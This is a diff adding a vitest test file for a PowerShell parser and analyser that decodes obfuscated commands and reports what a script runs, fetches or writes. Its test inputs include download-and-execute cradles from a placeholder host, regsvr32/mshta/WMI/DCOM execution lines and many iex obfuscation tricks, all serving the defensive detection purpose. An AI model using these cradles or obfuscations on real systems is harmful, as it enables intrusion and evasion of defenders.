@@ -1,0 +1,237 @@
+import fc from "fast-check";
+import { describe, expect, it } from "vitest";
+import { parsePowerShellLine } from "./parsePowerShellLine.ts";
+import { readPowerShell } from "./readPowerShell.ts";
+
+const encode = (code: string) => Buffer.from(code, "utf16le").toString("base64");
+const shown = (code: string) => {
+  const { commands, findings } = readPowerShell(code);
+  return [...commands.map((one) => one.text), ...findings.map((one) => `${one.role} ${one.value}`)];
+};
+
+describe("parsePowerShellLine", () => {
+  it.each<[string, object]>([
+    ["-nop -w hidden -c calc", { code: "calc" }],
+    ['-Command "& {calc; notepad}" x', { code: "& {calc; notepad} x" }],
+    ["/NoP \u2013ExecutionPol Bypass -File C:\\x.ps1 -a 1", { file: "C:\\x.ps1", fileArgs: ["-a", "1"] }],
+    [`-e ${encode("calc é")}`, { code: "calc é", encoded: true }],
+    [`-nop -ep bypass -EncodedC ${encode("iex 'x'")}`, { code: "iex 'x'", encoded: true }],
+    ["-ec notbase64!", { encoded: true }],
+    ["Get-Date; calc", { code: "Get-Date; calc" }],
+    ["-noexit -sta C:\\x.ps1 y", { code: "C:\\x.ps1 y" }],
+    ["powershell.exe -v 2 -c dir", { code: "dir" }],
+    ["-", { fromInput: true }],
+    ["-c -", { fromInput: true }],
+    ["", {}],
+  ])("%s", (line, expected) => {
+    expect(parsePowerShellLine(line)).toMatchObject(expected);
+  });
+
+  it("names options in full, with their values", () => {
+    expect(parsePowerShellLine(["-noni", "-w", "1", "-ex", "bypass", "-c", "x"]).options).toEqual([
+      { name: "noninteractive" },
+      { name: "windowstyle", value: "1" },
+      { name: "executionpolicy", value: "bypass" },
+      { name: "command" },
+    ]);
+  });
+});
+
+describe("readPowerShell: programs", () => {
+  it.each<[string, string[]]>([
+    ["rundll32 C:\\x.dll,Start", ["rundll32 C:\\x.dll Start"]],
+    ["rundll32 'C:\\x.dll,Start'", ["rundll32 C:\\x.dll,Start"]],
+    ["Get-Date; regsvr32.exe /s /i:http://h/x scrobj.dll | Out-Null", ["regsvr32.exe /s /i:http://h/x scrobj.dll"]],
+    ["& 'C:\\a b\\x.exe' -y \"z w\"", ['"C:\\a b\\x.exe" -y "z w"']],
+    [". C:\\x.ps1 -a", ["runs C:\\x.ps1"]],
+    ["Start-Process -FilePath calc.exe -ArgumentList '/x','y'", ["calc.exe /x y"]],
+    ["saps mshta http://h/x.hta -WindowStyle Hidden", ["mshta http://h/x.hta"]],
+    ["start cmd '/c calc' -Wait", ["cmd /c calc"]],
+    ["if ($true) { calc } else { notepad.exe }", ["calc", "notepad.exe"]],
+    ["foreach ($f in 'a.dll','b.dll') { regsvr32 /s $f }", ["regsvr32 /s a.dll", "regsvr32 /s b.dll"]],
+    ['1,2 | % { ping "h$_" }', ["ping h1", "ping h2"]],
+    ["$p='C:\\x'; & \"$p\\y.exe\" z", ["C:\\x\\y.exe z"]],
+    ["Invoke-WmiMethod -Class Win32_Process -Name Create -ArgumentList 'calc /x'", ["calc /x"]],
+    ["([wmiclass]'Win32_Process').Create('calc')", ["calc"]],
+    ["Invoke-CimMethod Win32_Process Create @{CommandLine='calc 1'}", ["calc 1"]],
+    ["[Diagnostics.Process]::Start('calc','/x')", ["calc /x"]],
+    [
+      "$i=New-Object Diagnostics.ProcessStartInfo; $i.FileName='calc'; $i.Arguments='/y'; [System.Diagnostics.Process]::Start($i)",
+      ["calc /y"],
+    ],
+    ["(New-Object -ComObject WScript.Shell).Run('calc /x',0)", ["calc /x"]],
+    ["$s=New-Object -com Shell.Application; $s.ShellExecute('calc.exe','/x')", ["calc.exe /x"]],
+    [
+      "[activator]::CreateInstance([type]::GetTypeFromProgID('MMC20.Application')).Document.ActiveView.ExecuteShellCommand('cmd',$null,'/c x','7')",
+      ["cmd /c x"],
+    ],
+    ["ii C:\\x.lnk", ["C:\\x.lnk"]],
+    ["cmd --% /c echo %PATH% | x", ["cmd /c echo %PATH%", "x"]],
+    ["calc > C:\\o.txt 2>&1", ["calc", "writes C:\\o.txt"]],
+    ["function Go { calc } Go", ["calc"]],
+    ["Start-Job { calc }", ["calc"]],
+    ["Write-Host 'hello'; Get-ChildItem C:\\ | Where-Object { $_.Name -eq 'x' } | Sort-Object", []],
+    ["$a = @{x=1; y='z'}; return $a.y", []],
+  ])("%s", (code, expected) => {
+    expect(shown(code)).toEqual(expected);
+  });
+});
+
+describe("readPowerShell: what runs, comes and goes", () => {
+  it.each<[string, string[]]>([
+    ["IEX (New-Object Net.WebClient).DownloadString('http://h/x.ps1')", ["runs http://h/x.ps1"]],
+    ["iwr -useb http://h/x | iex", ["runs http://h/x"]],
+    ["$c=(irm 'http://h/x'); & ([scriptblock]::Create($c))", ["runs http://h/x"]],
+    [
+      "(New-Object System.Net.WebClient).DownloadFile('http://h/x.exe',\"$env:TEMP\\x.exe\")",
+      ["fetches http://h/x.exe", "writes %temp%\\x.exe"],
+    ],
+    [
+      "wget http://h/x.dll -OutFile C:\\x.dll; rundll32 C:\\x.dll,Go",
+      ["rundll32 C:\\x.dll Go", "fetches http://h/x.dll", "writes C:\\x.dll"],
+    ],
+    ["Start-BitsTransfer http://h/a C:\\a", ["fetches http://h/a", "writes C:\\a"]],
+    ["Copy-Item \\\\h\\s\\x.dll C:\\x.dll", ["reads \\\\h\\s\\x.dll", "writes C:\\x.dll"]],
+    ["Get-Content C:\\x.txt | iex", ["runs C:\\x.txt"]],
+    ["Add-Type -Path C:\\x.dll", ["runs C:\\x.dll"]],
+    ["[Reflection.Assembly]::LoadFile('C:\\x.dll')", ["runs C:\\x.dll"]],
+    ["[Reflection.Assembly]::Load((New-Object Net.WebClient).DownloadData('http://h/a.bin'))", ["runs http://h/a.bin"]],
+    ["Import-Module .\\x.psm1", ["runs .\\x.psm1"]],
+    ["Import-Module ActiveDirectory", []],
+    ["Add-AppxPackage C:\\x.msix", ["runs C:\\x.msix"]],
+    ["'x' | Out-File C:\\o.txt", ["writes C:\\o.txt"]],
+    [
+      "$x=New-Object -ComObject MSXML2.XMLHTTP; $x.open('GET','http://h/x',$false); $x.send(); iex $x.responseText",
+      ["runs http://h/x"],
+    ],
+  ])("%s", (code, expected) => {
+    expect(shown(code)).toEqual(expected);
+  });
+});
+
+describe("readPowerShell: strings put together", () => {
+  it.each([
+    "iex 'calc'",
+    'Invoke-Expression "ca`lc"',
+    "i`ex ('ca'+'lc')",
+    "& ('{1}{0}' -f 'ex','i') 'calc'",
+    "iex ('c','a','l','c' -join '')",
+    "iex (-join [char[]](99,97,108,99))",
+    "iex ([char]99+[char]97+'lc')",
+    "iex ('cXlc' -replace 'X','a')",
+    "iex 'c@lc'.Replace('@','a')",
+    "iex ([string]::Join('',('c','alc')))",
+    "iex ('clac'[-1..-4] -join '')",
+    "$a='clac'.ToCharArray(); [array]::Reverse($a); iex (-join $a)",
+    "iex ([Text.Encoding]::ASCII.GetString([Convert]::FromBase64String('Y2FsYw==')))",
+    `iex ([System.Text.Encoding]::Unicode.GetString([System.Convert]::FromBase64String('${encode("calc")}')))`,
+    "(99,97,108,99 | % { [char]$_ }) -join '' | iex",
+    "sal q iex; q calc",
+    "& (gcm i*k*-exp*) 'calc'",
+    "&($pshome[4]+$pshome[30]+'x') 'calc'",
+    "$x='ca'; $x+='lc'; iex $x",
+    "$ExecutionContext.InvokeCommand.InvokeScript('calc')",
+    "iex @'\ncalc\n'@",
+    "& { param($q) iex $q } ; iex $('calc')",
+    "iex (('63,61,6c,63'.Split(',') | % { [char][convert]::ToInt32($_,16) }) -join '')",
+    "'calc'.ToString() | .('ie'+'x')",
+  ])("%s", (code) => {
+    expect(shown(code)).toEqual(["calc"]);
+  });
+
+  it("says what it leaves unopened", () => {
+    const code =
+      "iex (New-Object IO.StreamReader((New-Object IO.Compression.GzipStream((New-Object IO.MemoryStream(,[Convert]::FromBase64String('H4sIAAAA'))),[IO.Compression.CompressionMode]::Decompress)))).ReadToEnd()";
+    expect(readPowerShell(code).cut).toEqual(["compressed code, not opened"]);
+  });
+
+  it.each<[string, string[]]>([
+    ["Get-ChildItem 'C:\\a b'", []],
+    ["iex ('ca'+'lc')", ["concatenation"]],
+    ["i`e`x calc", ["characterInsertion"]],
+    ["[Convert]::FromBase64String('Y2FsYw==')", ["encodedCommand"]],
+    ["iNvOkE-eXpReSsIoN calc", ["caseMixing"]],
+  ])("names what is unusual: %s", (code, expected) => {
+    expect([...new Set(readPowerShell(code).obfuscation.map((one) => one.class))]).toEqual(expected);
+  });
+
+  it("lists addresses and paths", () => {
+    const reading = readPowerShell("$u='http://h/'+'x'; foo $u; # see https://docs.example/a\nC:\\x\\y.exe");
+    expect(reading.urls).toContain("https://docs.example/a");
+    expect(reading.paths).toEqual(["C:\\x\\y.exe"]);
+  });
+});
+
+describe("any text", () => {
+  const piece = fc.constantFrom(
+    ..."$x = ( ) { } [ ] ' \" ` @ @( @{ $( & . | ; , + - * -f -join -replace -split .. iex [char] [char[]] [array]::Reverse .Replace( 'a' 65 1..9 % foreach if function $_ @' \n #  <# #> --% > 2>&1 -c :: ! +=".split(
+      " ",
+    ),
+    " ",
+    "\n",
+    '"$(',
+  );
+  const text = fc.oneof(
+    fc.string({ unit: "binary" }),
+    fc.array(piece, { maxLength: 40 }).map((parts) => parts.join(" ")),
+    fc.array(piece, { maxLength: 40 }).map((parts) => parts.join("")),
+  );
+
+  it("is answered", () => {
+    fc.assert(
+      fc.property(text, (raw) => {
+        readPowerShell(raw);
+        parsePowerShellLine(raw);
+      }),
+      { numRuns: 5000 },
+    );
+  });
+
+  it.each([
+    "(",
+    "{",
+    "[",
+    "$(",
+    '"$(',
+    "@(",
+    "a ",
+    "a;",
+    "$x+=$x;",
+    "$x='a'*90000;",
+    "'a'+",
+    "1,",
+    "!",
+    "-",
+    "[a]",
+    ".a(",
+    "a(",
+    "'",
+    '"',
+    "`",
+    "@'\n",
+    "<#",
+    "#",
+    "if(",
+    "foreach($x in 1,2){",
+    "iex '",
+    "& ",
+    "|",
+    "| % {",
+    "$x=",
+    "1..9999|%{",
+    "function f{",
+    "@{a=",
+    "'a'.Replace('a','aa')",
+    "[char]65+",
+    "> a ",
+    "--% a\n",
+    "-f",
+    "\u2013a ",
+  ])("costs little: %s", (unit) => {
+    const long = unit.repeat(Math.ceil(100_000 / unit.length));
+    const start = performance.now();
+    readPowerShell(long);
+    parsePowerShellLine(long);
+    expect(performance.now() - start).toBeLessThan(3000);
+  });
+});
